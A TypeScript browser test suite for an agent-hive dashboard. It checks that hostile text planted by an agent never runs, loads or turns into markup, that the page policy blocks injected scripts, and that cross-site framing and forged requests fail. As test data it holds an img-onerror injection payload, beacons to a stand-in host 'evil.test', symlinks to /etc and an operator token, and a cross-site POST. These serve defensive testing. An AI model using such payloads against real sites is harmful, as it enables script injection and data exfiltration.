// Hostile text in every field that an agent can write, on every page that shows it: nothing of it
// runs, loads or leaves its place.

import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { type Browser, eventually, launch, live, open, type Page } from "./browser.ts";
import { ALARM, HOSTILE } from "./corpus.ts";
import { Hive } from "./hive.ts";
import { called, type Peer, returned, said } from "./peer.ts";

let hive: Hive;
let browser: Browser;
let eve: Peer;
before(async () => {
  [hive, browser] = await Promise.all([Hive.start({ config: "[limits]\ndeliveries_before_dead = 1\n" }), launch()]);
  eve = await hive.agent("eve");
});
after(async () => {
  await browser?.close();
  await hive?.stop();
});

/** Puts the text wherever an agent can. */
async function plant(text: string): Promise<void> {
  const line = text.replace(/[\n\r\u0000-\u001f\u0080-\u009f]/g, " ");
  await eve.ask("set_status", { text: line.slice(0, 200) }).catch(() => undefined);
  await eve.ask("send", { to: "operator", body: text });
  await eve.ask("send", { to: "eve", body: text });
  const { question_id } = await eve.ask("ask", { question: text, options: [text, `${text} 2`], multi: true });
  await hive.call("answer", { question_id, answer: text }).catch(() => undefined);
  await eve.ask("ask", { question: text, options: [text, `${text} 2`] });
  await eve.ask("remind", { message: text, delay_seconds: 90_000 });
  await eve.turn(
    text, text, said(text), { type: "assistant", message: { content: [{ type: "thinking", thinking: text }] } },
    called("a", text, { [text]: text }), returned("a", text),
    called("b", "Write", { file_path: text, content: text }), returned("b", text, true),
    called("c", "Edit", { file_path: text, old_string: "x", new_string: text }), returned("c", [{ type: text, text }]),
    called("d", "mcp__bash__run", { cmd: text }), returned("d", JSON.stringify({ stdout: text, stderr: text, summary: text, exit_code: 1 })),
    called("e", "mcp__hyperhive__send", { to: text, body: `${text}\n${text}` }), returned("e", text),
    called("f", "TodoWrite", { todos: [{ status: text, content: text }] }),
    { type: "rate_limit_event", rate_limit_info: { status: text } }, { type: "system", subtype: "api_retry", error: text },
    { type: "system", subtype: "permission_denied", tool_name: text },
  );
  await eve.post({ kind: "note", data: { text } }, { kind: "login", data: { text } }, { kind: "turn_end", data: { ok: false, outcome: text, note: text } });
}

/** Files that an agent can put into its own directories. */
function plantFiles(): void {
  const own = join(hive.root, "state/agents/eve");
  mkdirSync(join(own, "state/notes"), { recursive: true });
  mkdirSync(join(own, "harness/bash-tasks"), { recursive: true });
  HOSTILE.filter((text) => !/[/\u0000]/.test(text) && text.length < 200).forEach((text) => writeFileSync(join(own, "state/notes", text), text));
  writeFileSync(join(own, "state/all.md"), HOSTILE.join("\n\n"));
  symlinkSync("/etc", join(own, "state/etc"));
  symlinkSync("../../../../operator-token", join(own, "state/token"));
  const links = HOSTILE.map((text) => ({ label: text, url: text, icon: text }));
  writeFileSync(join(own, "state/hyperhive-dashboard-links.json"), JSON.stringify([...links, { label: HOSTILE[0], url: "https://example.test", icon: "<b>" }]));
  HOSTILE.forEach((text, index) => {
    const id = index + 1;
    writeFileSync(join(own, `harness/bash-tasks/${id}.json`), JSON.stringify({ id, cmd: text, state: text, created_at: null, ended_at: null, duration_ms: null, exit_code: 1, signal: null, note: text }));
    writeFileSync(join(own, `harness/bash-tasks/${id}.out`), text);
  });
}

/** Opens everything that is folded, and waits until the host has turned all of it into parts. */
async function unfold(page: Page): Promise<void> {
  await page.evaluate(() => document.querySelectorAll("details").forEach((one) => (one.open = true)));
  await eventually("everything is shown", async () => (await page.locator(".markdown > .plain, .terminal > .plain").count()) === 0);
}

async function quiet(page: Page, where: string): Promise<void> {
  const found = await page.evaluate((alarm) => ({
    alarm: (window as unknown as Record<string, unknown>)[alarm],
    scripts: [...document.querySelectorAll("script")].map((script) => script.getAttribute("src")),
    alien: [...document.querySelectorAll("iframe, object, embed, img:not(.mark[src^='/icon']), form[action], base, meta[http-equiv], link[rel=stylesheet]:not([href^='/assets/'])")].map((element) => element.outerHTML),
    links: [...document.querySelectorAll("a[href]")].map((link) => (link as HTMLAnchorElement).protocol).filter((kind) => !/^(https?|mailto):$/.test(kind)),
    handlers: [...document.querySelectorAll("*")].filter((element) => element.getAttributeNames().some((name) => name.startsWith("on"))).length,
  }), ALARM);
  assert.equal(found.alarm, undefined, where);
  assert.ok(found.scripts.every((src) => src?.startsWith("/assets/")), where);
  assert.deepEqual([found.alien, found.links, found.handlers], [[], [], 0], where);
}

test("nothing that an agent wrote runs, loads or becomes markup, on any page", async () => {
  for (const text of HOSTILE) await plant(text);
  plantFiles();
  const { page, complaints } = await open(browser, await hive.link());
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await live(page);
  for (const place of ["", "messages", "decisions", "permissions", "schedules", "stats", "log", "settings", "agent/eve"]) {
    await page.goto(`${hive.address}/#/${place}`);
    await page.locator("main").waitFor();
    await eventually("it is loaded", async () => (await page.getByText("Loading").count()) === 0);
    await unfold(page);
    await quiet(page, place);
  }
  for (const tab of ["tasks", "notes"]) {
    await page.getByRole("tab", { name: tab }).click();
    await eventually("it is loaded", async () => (await page.getByText("Loading").count()) === 0);
    await unfold(page);
    await quiet(page, tab);
  }
  await page.getByRole("button", { name: "all.md" }).click();
  await page.locator(".markdown").last().waitFor();
  await quiet(page, "a note");
  assert.deepEqual(asked.filter((url) => !url.startsWith(hive.address)), [], "nothing was asked of anybody else");
  assert.deepEqual(complaints.filter((line) => /Content Security|Trusted|error:/.test(line)), []);
  // The text is there, as text.
  await page.goto(`${hive.address}/#/messages`);
  await page.getByText(HOSTILE[0] as string).first().waitFor();
  await page.context().close();
});

test("the page's policy stops what would slip through", async () => {
  const { page } = await open(browser, await hive.link());
  await live(page);
  // As text: what a compiler adds to functions is not there in the page.
  const refused = (await page.evaluate(`(async () => {
    const tried = [];
    try { document.body.innerHTML += '<img src=x onerror="window.${ALARM}=1">'; } catch { tried.push("markup"); }
    try { setTimeout("window.${ALARM}=1"); } catch { tried.push("code"); }
    try {
      const script = document.createElement("script");
      script.text = "window.${ALARM}=1";
      document.body.append(script);
    } catch { tried.push("script"); }
    new Image().src = "http://evil.test/leak.png";
    await fetch("http://evil.test/leak").catch(() => tried.push("fetch"));
    await new Promise((done) => setTimeout(done, 50)); // Whatever was set going has run.
    return { tried, alarm: window.${ALARM} };
  })()`)) as { tried: string[]; alarm: unknown };
  assert.deepEqual([refused.tried.sort(), refused.alarm], [["code", "fetch", "markup", "script"], undefined]);
  await page.context().close();
});

test("another site can neither frame the page, nor read it, nor act in it", async () => {
  const { createServer } = await import("node:http");
  const evil = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<title>evil</title>"));
  await new Promise<void>((done) => evil.listen(0, "127.0.0.1", done));
  const { port } = evil.address() as { port: number };
  const { page } = await open(browser, `http://127.0.0.1:${port}/`);
  const sent = async (): Promise<number> => (await hive.call("history", {})).messages.length;
  const before = await sent();
  const outcome = await page.evaluate(async (target) => {
    const read = await fetch(`${target}/api/state`, { headers: { authorization: "Bearer x" } }).then(() => "read", () => "refused");
    const form = await fetch(`${target}/api/send`, { method: "POST", mode: "no-cors", body: JSON.stringify({ to: "eve", body: "csrf" }) }).then((answer) => answer.type, () => "refused");
    const frame = document.createElement("iframe");
    frame.src = target;
    document.body.append(frame);
    await new Promise((done) => frame.addEventListener("load", done));
    let inside: string;
    try {
      inside = frame.contentDocument?.title ?? "hidden";
    } catch {
      inside = "hidden";
    }
    return { read, form, inside };
  }, hive.address);
  assert.equal(outcome.read, "refused");
  assert.equal(outcome.inside, "hidden");
  assert.equal(await sent(), before, "nothing was sent");
  for (const frame of page.frames().slice(1)) assert.equal(await frame.getByText("Open the hive").count(), 0, "it is not framed");
  await page.context().close();
  evil.close();
});
